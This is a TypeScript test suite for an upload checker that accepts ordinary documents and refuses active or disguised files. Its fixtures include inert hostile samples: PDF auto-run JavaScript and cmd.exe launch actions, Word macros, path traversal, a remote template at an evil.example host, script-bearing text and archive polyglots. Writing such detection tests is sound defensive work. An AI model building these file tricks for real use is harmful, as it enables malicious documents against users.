import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { MATERIAL_KINDS, type MaterialKind } from "@augenhoehe/domain";
import { inspectMaterial } from "@augenhoehe/api/material/inspect-material";
import {
  jpegFile,
  largePdf,
  officeFile,
  openDocumentFile,
  pdfFile,
  pngFile,
  zipOf,
} from "../support/material-files.ts";

const text = (words: string): Buffer => Buffer.from(words, "utf8");
const HARMLESS = {
  pdf: pdfFile(),
  png: pngFile(),
  jpeg: jpegFile(),
  docx: officeFile("docx"),
  xlsx: officeFile("xlsx"),
  pptx: officeFile("pptx", [{ name: "ppt/media/image1.svg", text: "<svg/>" }]),
  odt: openDocumentFile("odt"),
  ods: openDocumentFile("ods"),
  odp: openDocumentFile("odp"),
  txt: text("\uFEFFMerkblatt zum Bürgergeld\n\tStand: März · سؤال · ጥያቄ\n"),
} as const satisfies Record<MaterialKind, Buffer>;

describe("files as people have them", () => {
  it.each(MATERIAL_KINDS)("a %s is taken", (kind) => {
    expect(inspectMaterial(HARMLESS[kind], kind)).toBeNull();
  });

  it("is what its name says: every other name for it is refused", () => {
    for (const kind of MATERIAL_KINDS) {
      for (const claimed of MATERIAL_KINDS.filter((other) => other !== kind)) {
        expect(inspectMaterial(HARMLESS[kind], claimed), `${kind} as ${claimed}`).toBe("content");
      }
    }
  });

  it("a large page with a picture is not mistaken for a program", () => {
    expect(inspectMaterial(largePdf(3_000_000), "pdf")).toBeNull();
  });

  it("a PDF may have links, bookmarks, forms to write on and packed objects", () => {
    const harmless = "/OpenAction [2 0 R /Fit] /AcroForm << /Fields [] >> /URI (https://example.org)";
    expect(inspectMaterial(pdfFile(harmless, "5 0 << /Type /Page >>"), "pdf")).toBeNull();
  });
});

describe("files in which something runs", () => {
  it.each([
    ["a script on opening", pdfFile("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")],
    ["the same, spelled in numbers", pdfFile("/OpenAction << /S /J#61vaScript /#4aS (app.alert(1)) >>")],
    ["a program", pdfFile("/OpenAction << /S /Launch /F (cmd.exe) >>")],
    ["another file inside", pdfFile("/Names << /EmbeddedFiles 4 0 R >>")],
    ["a script among packed objects", pdfFile("", "4 0 << /S /JavaScript /JS (x) >>")],
    [
      "packed objects nobody can read",
      Buffer.from(pdfFile("", "4 0 <<>>").toString("latin1").replace("\nstream\nx", "\nstream\ny"), "latin1"),
    ],
  ])("a PDF with %s is refused", (_, file) => {
    expect(inspectMaterial(file, "pdf")).toBe("active");
  });

  it.each([
    ["macros", officeFile("docx", [{ name: "word/vbaProject.bin", text: "x" }])],
    ["macros under another name", officeFile("docx", [], "application/vnd.ms-word.document.macroEnabled.main+xml")],
    ["a control that runs", officeFile("docx", [{ name: "word/activeX/activeX1.xml", text: "x" }])],
    ["a packed object", officeFile("docx", [{ name: "word/embeddings/oleObject1.bin", text: "x" }])],
    ["a program inside", officeFile("docx", [{ name: "word/media/bild.exe", text: "MZ" }])],
    ["a way out of its folder", officeFile("docx", [{ name: "../../start.txt", text: "x" }])],
    [
      "a template from elsewhere",
      officeFile("docx", [
        {
          name: "word/_rels/settings.xml.rels",
          text: '<Relationships><Relationship Id="1" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>',
        },
      ]),
    ],
  ])("a Word file with %s is refused", (_, file) => {
    expect(inspectMaterial(file, "docx")).toBe("active");
  });

  it("a link in a Word file is no danger", () => {
    const rels =
      '<Relationships><Relationship Id="1" Type="http://x/hyperlink" Target="https://example.org" TargetMode="External"/></Relationships>';
    const linked = officeFile("docx", [{ name: "word/_rels/document.xml.rels", text: rels }]);
    expect(inspectMaterial(linked, "docx")).toBeNull();
  });

  it("an OpenDocument file with macros is refused", () => {
    const file = openDocumentFile("odt", [{ name: "Basic/Standard/Module1.xml", text: "Sub Main" }]);
    expect(inspectMaterial(file, "odt")).toBe("active");
  });

  it.each([
    "<!DOCTYPE html><script>",
    "  <svg onload=x>",
    "#!/bin/sh\nrm",
    "<?php echo",
    "MZ\u0090",
    "{\\rtf1",
    "a\u0000b",
    "a\u001b[31m",
  ])("text that is none, %j, is refused", (words) => {
    expect(inspectMaterial(text(words), "txt")).toBe("content");
  });

  it("text in an old encoding is refused, so that nobody reads broken letters", () => {
    expect(inspectMaterial(Buffer.from("Bürgergeld", "latin1"), "txt")).toBe("content");
  });
});

describe("files that are locked, or two at once", () => {
  it("a password keeps participants out too", () => {
    expect(inspectMaterial(pdfFile("/Encrypt 9 0 R"), "pdf")).toBe("locked");
    expect(inspectMaterial(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1]), "docx")).toBe("locked");
    expect(inspectMaterial(officeFile("xlsx", [{ name: "xl/a.xml", text: "x", locked: true }]), "xlsx")).toBe("locked");
    const manifest = "<manifest:encryption-data/>";
    expect(inspectMaterial(openDocumentFile("odt", [], manifest), "odt")).toBe("locked");
  });

  it("a picture or PDF that unpacks as an archive is refused", () => {
    const archive = zipOf([{ name: "start.js", text: "x" }]);
    expect(inspectMaterial(Buffer.concat([pdfFile(), archive]), "pdf")).toBe("hidden");
    expect(inspectMaterial(Buffer.concat([jpegFile(), archive]), "jpeg")).toBe("hidden");
    expect(inspectMaterial(Buffer.concat([pngFile(), archive]), "png")).toBe("content");
  });

  it("an archive with something before, between or behind is no office file", () => {
    const word = officeFile("docx");
    expect(inspectMaterial(Buffer.concat([text("<html>"), word]), "docx")).toBe("content");
    expect(inspectMaterial(Buffer.concat([word, text("<script>")]), "docx")).toBe("content");
    const twoNames = officeFile("docx", [{ name: "word/a.xml", localName: "word/b.xml", text: "x" }]);
    expect(inspectMaterial(twoNames, "docx")).toBe("content");
  });

  it("something that begins as a PDF only further down is refused", () => {
    expect(inspectMaterial(Buffer.concat([text("<html><!--"), pdfFile()]), "pdf")).toBe("content");
    expect(inspectMaterial(pdfFile().subarray(0, 60), "pdf")).toBe("content");
  });

  it("broken and invented bytes never break the reader", () => {
    const files = Object.values(HARMLESS);
    fc.assert(
      fc.property(
        fc.constantFrom(...MATERIAL_KINDS),
        fc.constantFrom(...files),
        fc.array(fc.tuple(fc.nat(2000), fc.integer({ min: 0, max: 255 })), { maxLength: 12 }),
        fc.nat(2000),
        (kind, file, changes, length) => {
          const broken = Buffer.from(file.subarray(0, Math.max(1, length)));
          for (const [at, byte] of changes) broken[at % broken.length] = byte;
          expect([null, "content", "active", "locked", "hidden"]).toContain(inspectMaterial(broken, kind));
        },
      ),
      { numRuns: 3000 },
    );
  });
});
